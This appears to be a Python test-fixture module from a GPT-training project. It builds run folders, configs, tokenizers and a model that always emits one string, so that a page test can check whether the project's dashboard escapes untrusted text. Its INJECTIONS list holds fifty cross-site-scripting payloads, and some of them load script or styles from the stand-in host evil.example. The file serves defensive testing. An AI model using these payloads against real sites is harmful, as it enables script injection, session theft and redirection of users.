"""Fifty texts that become script or a request where a page takes them for more than text; and runs full of them.

Each sets `top.__hit`, or asks evil.example, if it ever is executed. `page_test.py` brings them to every place of the
page that a stranger's text can reach, and looks at what a browser then does.
"""

from __future__ import annotations

import json
from pathlib import Path

import torch

from glassgpt.checkpoint import Checkpoint, save_checkpoint, weights_of
from glassgpt.config import ModelConfig
from glassgpt.model.gpt import GPT
from glassgpt.runs import RunFolder
from glassgpt.settings import assemble, flat, to_yaml
from glassgpt.text.bytelevel import BYTES, SPECIALS, Pair
from glassgpt.text.fast import FastBPE

FOREIGN = "evil.example"
INJECTIONS = (
    # script elements, and what ends the element, the comment or the string that one is inside of
    "<script>top.__hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>top.__hit=1</script><!--",
    "<script type=module>import '//evil.example/x.js'</script>",
    "</title></textarea></style><script>top.__hit=1</script>",
    "--!><script>top.__hit=1</script><!--",
    "]]><script>top.__hit=1</script>",
    '";top.__hit=1;//',
    "');top.__hit=1;//",
    "${top.__hit=1}`;top.__hit=1;`",
    "\u2028top.__hit=1\u2029//",
    "\\u003cscript\\u003etop.__hit=1\\u003c/script\\u003e",
    ";import('//evil.example/x.js')",
    # events of elements
    "<img src=x onerror=top.__hit=1>",
    "<img src=x onerror=&#116;op.__hit&#61;1>",
    "<img src=//evil.example/x.png>",
    "<details open ontoggle=top.__hit=1>",
    "<video><source onerror=top.__hit=1></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=top.__hit=1 onhashchange=top.__hit=1>",
    "<input autofocus onfocus=top.__hit=1>",
    "<b style=animation-name:x onanimationstart=top.__hit=1>",
    "<marquee onstart=alert(1)>",
    "<b popover onbeforetoggle=top.__hit=1 id=p></b><button popovertarget=p autofocus>",
    # attributes that a text breaks out of
    '" autofocus tabindex=1 onfocus=top.__hit=1 x="',
    "' onmouseover=top.__hit=1 style='position:fixed;inset:0' x='",
    '"><img src=x onerror=top.__hit=1>',
    "`'><svg\tonload=top.__hit=1>",
    "</option></select><img src=x onerror=top.__hit=1>",
    # drawings and formulas
    "<svg onload=top.__hit=1>",
    "<svg><script>top.__hit=1</script></svg>",
    "<svg><animate onbegin=top.__hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:top.__hit=1><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=top.__hit=1 />#x'>",
    "<math href=javascript:top.__hit=1><mtext>x</mtext></math>",
    # what becomes another text when it is read and written again
    "<math><mtext><table><mglyph><style><img src=x onerror=top.__hit=1>",
    "<svg></p><style><a id='</style><img src=x onerror=top.__hit=1>'>",
    '<noscript><p title="</noscript><img src=x onerror=top.__hit=1>">',
    "<div><template shadowrootmode=open><img src=x onerror=top.__hit=1></template></div>",
    "&lt;img src=x onerror=top.__hit=1&gt;",
    "%3Cimg%20src=x%20onerror=top.__hit=1%3E",
    # addresses, and documents inside the document
    '<a href="javascript:top.__hit=1">x</a>',
    "<iframe src=javascript:top.__hit=1></iframe>",
    '<iframe srcdoc="<script>top.__hit=1</script>"></iframe>',
    "<object data='data:text/html,<script>top.__hit=1</script>'></object><embed src=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    # styles
    "<link rel=stylesheet href=//evil.example/x.css><style>@import url(//evil.example/y.css);</style>",
    "x:red;background:url(//evil.example/x.png)}*{background:url(//evil.example/y.png)}",
    # what plotly reads in a text
    '<a href="javascript:top.__hit=1" target=_top>x</a><br><b>x</b><sub>y</sub>',
    "%{customdata}<extra><img src=x onerror=top.__hit=1></extra>$$\\href{javascript:top.__hit=1}{x}$$",
)
WIDTH = 8


def as_name(text: str) -> str:
    """As a folder can be called: in an address, a browser takes the backslash for a slash."""
    return text.replace("/", "\\")


def make_run(folder: Path, text: str) -> None:
    """A run that holds the text wherever one can stand, and whose model writes it, whatever it is asked."""
    run, tokenizer = RunFolder(folder), speller(text)
    folder.mkdir(parents=True)
    shape = {"n_layers": 1, "n_heads": 2, "d_model": WIDTH, "max_seq_len": 64, "seq_len": 64}
    chosen = {"vocab_size": tokenizer.vocab_size, "norm": "layernorm", "bias": True, "tie_weights": False}
    config = assemble(shape | chosen | {"data": [text], "sample_prompt": text, "max_steps": 20, "tokenizer": "bpe"})
    checkpoint = Checkpoint(
        model_config=config.model, tokenizer_json=tokenizer.to_json(), step=20, settings=flat(config),
        weights=one_minded(config.model, BYTES + len(tokenizer.merges) - 1),
    )  # fmt: skip
    save_checkpoint(run.best, checkpoint)
    save_checkpoint(run.last, checkpoint)
    run.config.write_text(to_yaml(config, {}), encoding="utf-8")
    run.samples.write_text("".join(f"=== step {step} ===\n{text}\n\n" for step in (10, 20)), encoding="utf-8")
    rows = "".join(f"{step},{step},{step / 10},{30 / step},{31 / step},1e-3,1,100\n" for step in (10, 20))
    names = "step,tokens,seconds,train_loss,val_loss,learning_rate,gradient_norm,tokens_per_s\n"
    run.log.write_text(names + rows, encoding="utf-8")
    measured = {"step": 20, "loss": 1.5, "nats_per_character": 1.5, "floor": None, "marks": None, "file": text}
    entry = measured | {"rivals": [{"name": text, "nats_per_character": 2.0}]}
    (folder / "eval.json").write_text(json.dumps({"evaluations": [entry]}), encoding="utf-8")


def speller(text: str) -> FastBPE:
    """A tokenizer whose last token is the whole text: each merge adds a byte to the one before."""
    first, *others = text.encode()
    pairs: list[Pair] = []
    for byte in others:
        pairs.append((first if not pairs else BYTES + len(pairs) - 1, byte))
    return FastBPE(pairs)


def one_minded(config: ModelConfig, token_id: int) -> dict[str, torch.Tensor]:
    """Weights with which every answer is the same: nearly always this token, and then those around it."""
    model = GPT(config, seed=1)
    assert config.vocab_size is not None
    assert model.head is not None
    assert token_id < config.vocab_size - len(SPECIALS)
    with torch.no_grad():
        norm, head = model.final_norm, model.head.weight
        norm.weight.zero_()
        norm.bias.fill_(1.0)
        distance = (torch.arange(config.vocab_size) - token_id).abs()
        head.copy_((8.0 - distance.float()).div(WIDTH).unsqueeze(1).expand_as(head))
    return weights_of(model)
